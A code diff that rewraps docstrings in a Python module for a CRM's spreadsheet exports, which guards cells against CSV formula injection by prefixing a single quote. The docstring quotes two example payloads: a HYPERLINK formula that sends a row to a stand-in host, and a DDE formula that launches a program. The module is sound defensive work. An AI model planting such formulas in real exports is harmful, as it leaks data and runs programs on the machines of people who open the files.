@@ -1,18 +1,20 @@
-"""Cells written to files people open in spreadsheet programs (CSV and XLSX exports, report downloads).
+"""Cells written to files people open in spreadsheet programs (CSV and XLSX exports, report
+downloads).
 
-A spreadsheet program runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
-before one) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "open")`` leaks the row when clicked,
-``=cmd|' /C calc'!A0`` asks to start a program. Names and notes reach exports from the public lead form,
-so every exported text cell goes through :func:`safe_cell`, which follows the OWASP advice on CSV
-injection: such a cell gets a leading single quote, which makes the program show it as text.
+A spreadsheet program runs a cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
+return before one) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "open")`` leaks the row
+when clicked, ``=cmd|' /C calc'!A0`` asks to start a program. Names and notes reach exports from the
+public lead form, so every exported text cell goes through :func:`safe_cell`, which follows the
+OWASP advice on CSV injection: such a cell gets a leading single quote, which makes the program show
+it as text.
 
-A cell made only of digits, signs, spaces and the separators ``.``, ``,`` and ``;`` is left as it is: it
-can neither call a function nor refer to another cell, and rewriting it would turn negative amounts into
-text and break the phone lists (``+989121234567; +989351112233``) that ``crm customers import`` reads back.
+A cell made only of digits, signs, spaces and the separators ``.``, ``,`` and ``;`` is left as it
+is: it can neither call a function nor refer to another cell, and rewriting it would turn negative
+amounts into text and break the phone lists (``+989121234567; +989351112233``) that ``crm customers
+import`` reads back.
 
-Machine exports may ask for the values unchanged (``--raw``); files written so must not be opened in a
-spreadsheet program.
-"""
+Machine exports may ask for the values unchanged (``--raw``); files written so must not be opened in
+a spreadsheet program."""
 from __future__ import annotations
 
 import re
@@ -24,8 +26,9 @@ _PLAIN_NUMBERS = re.compile(r"[0-9+\-.,; ]*[0-9][0-9+\-.,; ]*", re.ASCII)
 
 
 def safe_cell(value: Any, *, raw: bool = False) -> Any:
-    """``value`` as it may be written to a spreadsheet cell: text that a spreadsheet program would run as a
-    formula is prefixed with ``'``; anything else (numbers, ``None``, other text) is returned unchanged."""
+    """``value`` as it may be written to a spreadsheet cell: text that a spreadsheet program would
+    run as a formula is prefixed with ``'``; anything else (numbers, ``None``, other text) is
+    returned unchanged."""
     if raw or not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
         return value
     if _PLAIN_NUMBERS.fullmatch(value):
@@ -38,8 +41,8 @@ def safe_row(row, *, raw: bool = False) -> list[Any]:
 
 
 def xlsx_row(ws, row, *, raw: bool = False) -> list[Any]:
-    """A row for openpyxl's write-only sheet ``ws``: text cells are always stored as text (never as a
-    formula, even with ``raw``), other values as they are."""
+    """A row for openpyxl's write-only sheet ``ws``: text cells are always stored as text (never as
+    a formula, even with ``raw``), other values as they are."""
     from openpyxl.cell import WriteOnlyCell
 
     cells: list[Any] = []
